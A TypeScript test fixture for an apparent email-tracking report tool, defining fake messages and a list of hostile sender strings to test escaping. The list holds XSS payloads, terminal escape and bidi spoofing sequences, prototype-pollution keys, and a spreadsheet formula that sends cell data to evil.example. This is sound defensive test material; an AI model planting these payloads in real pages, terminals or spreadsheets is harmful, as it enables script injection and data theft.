// Made-up messages for the reports' tests, and the strings that a hostile sender would try.

import type { RemoteReference } from "../../../src/core/model/reference.ts";
import type { StoredMessage } from "../../../src/edge/casebook/stored-messages.ts";

/** Each tries something else: to leave its element, attribute, style sheet, cell, line or direction, or to take all the space. */
export const HOSTILE: readonly string[] = [
	"<script>alert(1)</script>",
	"<img src=x onerror=alert(1)>",
	'"><svg onload=alert(1)>',
	"' autofocus onfocus='alert(1)",
	"</style><style>*{background:url(https://evil.example/)}</style>",
	"</title></head><body><base href=https://evil.example/>",
	"--><!--<![CDATA[",
	"&lt;b&gt; &#x3c;i> &amp",
	"a\u0000b\u0001c",
	"\u001b[2J\u001b]8;;https://evil.example/\u0007click\u001b]8;;\u0007",
	"\u009b31m",
	"safe\u202egnp.exe\u2066\u200b\u200d\ufeff",
	"lone \ud800 and \udc00 surrogates",
	"tag \u{e0041}\u{e0042} and variation \u{e0100} selectors",
	`z${"\u0301".repeat(500)}`,
	"line\r\nbreaks\u2028and\u2029more\u0085",
	'=HYPERLINK("https://evil.example/?"&A1)',
	"+1;=1\t@SUM(1)",
	"https://evil.example/ www.evil.example",
	"漢字かな交じり文🎉❤️👩‍👩‍👧 العربية עברית",
	"x".repeat(1_000_000),
	"<".repeat(100_000),
	"constructor",
	"__proto__",
];

export function reference(more: Partial<RemoteReference> = {}): RemoteReference {
	return {
		vector: "img-src",
		channel: "http",
		trigger: "open",
		url: "https://t1.track.example/open.gif?u=reader%40newsroom.example",
		host: "t1.track.example",
		part: "1.2",
		start: 10,
		end: 40,
		identifier: { kind: "address", value: "reader@newsroom.example", how: "the address in query parameter u" },
		operator: "mailchimp",
		leaks: ["time", "client-address", "user-agent", "recipient"],
		why: [
			"A program that shows remote images loads it when the message is displayed, whatever its size.",
			"the address in query parameter u",
		],
		...more,
	};
}

export function message(more: Partial<StoredMessage> = {}): StoredMessage {
	return {
		sha256: "ab".repeat(32),
		size: 1234,
		messageId: "news-1@shop.example",
		from: "news@shop.example",
		subject: "Spring sale",
		received: "2025-03-01T08:00:00.000Z",
		receivedFrom: "received",
		deliveredTo: [],
		detector: 1,
		placements: [{ mailbox: "mail", file: "mail/inbox.mbox", offset: 42, flags: ["seen"], owner: "reader@newsroom.example", gone: false }],
		references: [reference()],
		problems: [],
		...more,
	};
}

/** The same message with `text` wherever a sender, or the name of a file, can put words. */
export function messageSaying(text: string): StoredMessage {
	return message({
		messageId: text,
		from: text,
		subject: text,
		placements: [{ mailbox: "mail", file: text, offset: 42, flags: [], owner: text, gone: false }],
		references: [
			reference({
				url: text,
				host: text,
				path: text,
				identifier: { kind: "address", value: text, how: text },
				why: [text],
			}),
			reference({ vector: text, trigger: "click", url: text, host: text, operator: text, why: [text] }),
		],
		problems: [{ code: "unparsable", detail: text, offset: 7 }],
	});
}

export interface OfCase {
	messages(): AsyncGenerator<StoredMessage>;
	message(sha256: string): Promise<StoredMessage | null>;
}

/** As a case gives them. */
export function caseOf(messages: readonly StoredMessage[]): OfCase {
	return {
		async *messages() {
			yield* messages;
		},
		message: async (sha256) => messages.find((message) => message.sha256 === sha256) ?? null,
	};
}

export async function textOf(pieces: AsyncIterable<string>): Promise<string> {
	let text = "";
	for await (const piece of pieces) text += piece;
	return text;
}

/** What neither a page nor a terminal may carry. */
export const UNSEEN = /(?![\t\n])[\p{Cc}\p{Cs}\p{Zl}\p{Zp}\u00ad\u061c\u200b-\u200f\u202a-\u202e\u2060-\u206f\ufeff\u{e0000}-\u{e0fff}]/u;
